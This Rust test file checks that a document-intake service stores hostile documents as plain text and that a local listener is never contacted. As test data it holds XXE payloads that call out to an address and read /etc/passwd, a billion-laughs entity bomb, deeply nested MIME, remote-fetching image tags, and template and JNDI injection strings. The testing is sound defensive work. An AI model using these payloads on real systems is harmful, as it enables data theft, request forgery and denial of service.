//! Documents that attack whoever opens them: here they are text, and nothing opens them.

use std::io::ErrorKind;
use std::net::TcpListener;

use base64::Engine as _;
use nullius_tests::Failed;
use nullius_tests::json::Json as _;
use serde_json::json;

use super::Scene;

#[tokio::test]
async fn a_document_that_attacks_its_parser_is_kept_as_it_is_and_nobody_is_called() -> Result<(), Failed> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let address = listener.local_addr()?;
    listener.set_nonblocking(true)?;
    let scene = Scene::new().await?;
    let lines = |count: u32, line: &dyn Fn(u32) -> String| (0..count).map(line).collect::<Vec<_>>().join("\n");
    let laughs = lines(29, &|n| format!("<!ENTITY l{} \"&l{n};&l{n};\">", n + 1));
    let nested = lines(200, &|n| {
        format!("Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}")
    });
    let zip = base64::engine::general_purpose::STANDARD.encode(b"PK\x03\x04\x14\x00\x00\x00\x08\x00quine.zip");
    for (what, content) in [
        (
            "an external entity",
            format!("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"http://{address}/x\">]><a>&x;</a>"),
        ),
        (
            "a file",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>".to_owned(),
        ),
        (
            "a million laughs",
            format!("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY l0 \"ha\">{laughs}]><a>&l29;</a>"),
        ),
        ("mail in mail", nested),
        ("an archive", format!("data:application/zip;base64,{zip}")),
        (
            "remote pictures",
            format!(
                "<svg><image href=\"http://{address}/a.png\"/></svg><img src=\"//{address}/b.png\"><link rel=stylesheet href=http://{address}>"
            ),
        ),
        (
            "a template",
            format!("{{{{constructor.constructor('fetch(\"http://{address}\")')()}}}} ${{jndi:ldap://{address}/a}}"),
        ),
    ] {
        let document = json!({"kind": "document", "mediaType": "text/plain", "content": content, "title": what,
            "observedAt": "2026-11-01T00:00:00Z"});
        let source = scene.record("intake", &document).await?;
        let path = format!("/v1/runs/{}/sources/{source}", scene.played.run);
        let read = scene.server.caller("intake-assistent")?.get(&path).await?.expect(200)?;
        assert_eq!(read.text("/content"), content, "{what}");
        // Quoted in a letter it is still text.
        let candidate = scene.letter(
            "De bijlage is ontvangen [E1].",
            &json!({"source": source, "quote": content}),
        );
        let answer = scene.submit(&candidate).await?;
        assert!(answer.status < 500, "{what}: {}", answer.json());
    }
    let called = listener.accept().map_err(|error| error.kind());
    assert!(matches!(called, Err(ErrorKind::WouldBlock)), "{called:?}");
    Ok(())
}
